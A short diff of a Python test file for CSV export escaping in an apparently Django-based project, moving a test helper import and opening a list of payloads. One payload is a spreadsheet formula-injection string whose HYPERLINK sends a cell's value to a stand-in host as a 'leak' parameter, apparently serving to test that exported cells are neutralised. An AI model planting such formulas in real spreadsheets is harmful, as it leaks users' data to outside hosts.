@@ -13,8 +13,8 @@ import pytest
 from django.urls import reverse
 
 from kelurahan.exports.cells import csv_cell, looks_like_formula
-from tests.public.test_opendata import at, held
 from tests.support import factories
+from tests.support.heldsessions import at, held
 
 PAYLOADS = [
     '=HYPERLINK("http://example.invalid/?leak="&B3,"Gambir")',
